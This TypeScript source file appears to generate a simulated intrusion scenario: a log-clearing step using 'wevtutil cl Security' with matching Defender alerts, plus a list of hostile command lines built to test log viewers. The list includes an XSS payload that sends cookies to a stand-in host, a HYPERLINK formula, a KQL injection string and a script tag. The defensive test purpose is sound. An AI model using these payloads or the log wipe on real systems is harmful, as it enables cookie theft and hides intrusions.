import type { Host } from '../company/hosts';
import { clearLog } from '../events/log-cleared';
import { grantPrivileges, logOff, logOn } from '../events/logon';
import { dateTime, on, SPAN, type Moment } from '../moment';
import { CAST } from './cast';
import { TOOLS } from './encoded-command';
import type { Stage, Told } from './stage';

const wipe = (stage: Stage, prompt: Told, at: Moment): void => {
  stage.start(prompt, at, `${TOOLS.system32}wevtutil.exe`, 'wevtutil.exe cl Security');
  clearLog(stage.log, prompt.host, at + 240 * SPAN.millisecond, prompt.session);
};

const alert = (stage: Stage, host: Host, at: Moment, name: string): void =>
  stage.alert({
    key: `alert log cleared ${host.name}`,
    name: 'Security event log was cleared',
    severity: 'Medium',
    description: `The Security log of ${host.name} was cleared at ${dateTime(at).toJSON()} by ${name}.`,
    product: 'Microsoft Defender for Cloud',
    type: 'VM_EventLogCleared',
    start: at,
    end: at,
    tactics: 'DefenseEvasion',
    techniques: ['T1070.001'],
    about: host.name,
    properties: { 'User Name': name, 'Command Line': 'wevtutil.exe cl Security' },
    entities: (graph) => {
      graph.host(host);
      if (host === CAST.patientZero) graph.account(CAST.plantedAccount, host);
      else graph.account(CAST.stolenAccount);
    },
  });

/** The planted account on FIN-WS07, over remote desktop from FS01; three of its commands are hostile text, harmless here. */
const returnAsPlanted = (stage: Stage): Told => {
  const { patientZero: host, plantedAccount: account, fileServer } = CAST;
  const from = { ip: fileServer.ip, workstation: fileServer.name };
  const at = on(17, '03:55:10.6030000');
  const logon = {
    account,
    logonId: stage.logon(host),
    type: 10,
    from,
    port: 50_411,
    elevated: true,
  } as const;
  const session = logOn(stage.log, host, at, logon);
  grantPrivileges(stage.log, host, at + SPAN.millisecond, session);
  const { winlogon } = stage.systemAt(host, at);
  const { system32 } = TOOLS;
  const userinit = stage.start(
    winlogon,
    on(17, '03:55:11.4110000'),
    `${system32}userinit.exe`,
    'C:\\Windows\\system32\\userinit.exe',
    session,
  );
  const shell = stage.start(
    userinit,
    on(17, '03:55:12.0900000'),
    'C:\\Windows\\explorer.exe',
    'C:\\Windows\\Explorer.EXE',
  );
  const prompt = stage.start(shell, on(17, '03:55:44.2900000'), TOOLS.cmd, `"${TOOLS.cmd}"`);
  HOSTILE_COMMANDS.forEach((command, index) =>
    stage.start(prompt, on(17, '03:56:20.0000000') + index * 21 * SPAN.second, TOOLS.cmd, command),
  );
  logOff(stage.log, host, on(17, '03:59:30.2150000'), session, 10);
  return prompt;
};

/** Command lines that try to act where logs are shown: as HTML, as a spreadsheet formula, as KQL, over several lines. */
export const HOSTILE_COMMANDS = [
  `cmd.exe /c echo <img src=x onerror="fetch('http://203.0.113.99/c?'+document.cookie)"> > C:\\Users\\Public\\readme.html`,
  `cmd.exe /c echo =HYPERLINK("http://203.0.113.99/x","Open report")`,
  `cmd.exe /c echo ' | union SecurityEvent | take 1 // "quoted" \\backslash\\`,
  'cmd.exe /c echo first line\r\n<script>alert(1)</script>\tlast "line"',
] as const;

/** Chapter 8, 17 September 03:52: the Security logs of FS01 and FIN-WS07 are cleared. */
export function cover(stage: Stage, prompt: Told): void {
  wipe(stage, prompt, on(17, '03:52:40.1180000'));
  logOff(stage.log, CAST.fileServer, on(17, '03:54:02.7710000'), prompt.session, 10);
  wipe(stage, returnAsPlanted(stage), on(17, '03:58:05.3310000'));
  alert(stage, CAST.fileServer, on(17, '03:52:40'), 'LARKMOOR\\svc-backup');
  alert(stage, CAST.patientZero, on(17, '03:58:05'), 'FIN-WS07\\supp0rt');
}
